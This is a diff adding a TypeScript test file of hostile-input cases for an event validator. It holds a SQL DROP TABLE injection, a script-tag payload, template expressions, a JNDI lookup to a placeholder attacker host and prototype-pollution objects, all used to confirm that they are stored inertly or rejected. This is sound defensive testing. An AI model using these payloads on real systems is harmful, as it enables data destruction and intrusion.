@@ -1,0 +1,93 @@
+import { RejectionCode } from '@refurb/contracts';
+import { deeplyNested, set } from './case-builders';
+import { ACCEPTED, CaseSpec, Template } from './corpus-case';
+
+/** Text that is hostile elsewhere (SQL, HTML, templates, JNDI) is plain text here: stored verbatim, never run. */
+export function hostileTextCases(fresh: Template): CaseSpec[] {
+  return [
+    {
+      name: 'SQL injection in siteId',
+      expectedCode: ACCEPTED,
+      change: set('data.siteId', "x'); DROP TABLE tracker.device_events;--"),
+    },
+    {
+      name: 'script tag in model',
+      expectedCode: ACCEPTED,
+      change: set('data.model', '<script>alert(1)</script>'),
+    },
+    {
+      name: 'template expression in retailer',
+      expectedCode: ACCEPTED,
+      change: set('data.retailer', '{{7*7}} ${7*7} #{7*7}'),
+    },
+    {
+      name: 'JNDI lookup in brand',
+      expectedCode: ACCEPTED,
+      change: set('data.brand', '${jndi:ldap://attacker.invalid/a}'),
+    },
+    {
+      name: 'escaped NUL in siteId',
+      expectedCode: RejectionCode.INVALID_STRING,
+      change: set('data.siteId', 'SITE\u0000-1'),
+    },
+    {
+      name: 'bell control character in model',
+      expectedCode: RejectionCode.INVALID_STRING,
+      change: set('data.model', 'iPhone\u0007'),
+    },
+    {
+      name: 'right-to-left override in orderId',
+      type: 'device.resold',
+      expectedCode: RejectionCode.INVALID_STRING,
+      change: set('data.orderId', 'BM-\u202e2141'),
+    },
+    {
+      name: 'lone surrogate in return reason',
+      type: 'device.returned',
+      expectedCode: RejectionCode.INVALID_STRING,
+      change: set('data.reason', 'broken \ud800 screen'),
+    },
+    {
+      name: 'zero-width joiner in id (a distinct id)',
+      expectedCode: ACCEPTED,
+      change: (e) => (e.id = `${e.id.slice(0, 4)}\u200d${e.id.slice(4)}`),
+    },
+    {
+      name: 'huge array as an extension attribute (ignored)',
+      expectedCode: ACCEPTED,
+      change: set(
+        'partnerbatch',
+        Array.from({ length: 5000 }, (_, i) => i),
+      ),
+    },
+    {
+      name: '__proto__ key in data (no pollution)',
+      expectedCode: ACCEPTED,
+      change: (e) =>
+        Object.defineProperty(e.data, '__proto__', { value: { polluted: true }, enumerable: true }),
+    },
+    {
+      name: '__proto__ supplying a missing category',
+      expectedCode: RejectionCode.MISSING_FIELD,
+      change: (e) => {
+        delete e.data.category;
+        Object.defineProperty(e.data, '__proto__', { value: { category: 'smartphone' }, enumerable: true });
+      },
+    },
+    {
+      name: 'model nested 5000 levels deep',
+      expectedCode: RejectionCode.INVALID_FIELD,
+      body: deeplyNested(fresh(), 'data.model'),
+    },
+    {
+      name: 'extension attribute nested 5000 levels deep (ignored)',
+      expectedCode: ACCEPTED,
+      body: deeplyNested(fresh(), 'partnertrace'),
+    },
+    {
+      name: 'constructor.prototype in the envelope',
+      expectedCode: ACCEPTED,
+      change: set('constructor', { prototype: { polluted: true } }),
+    },
+  ];
+}
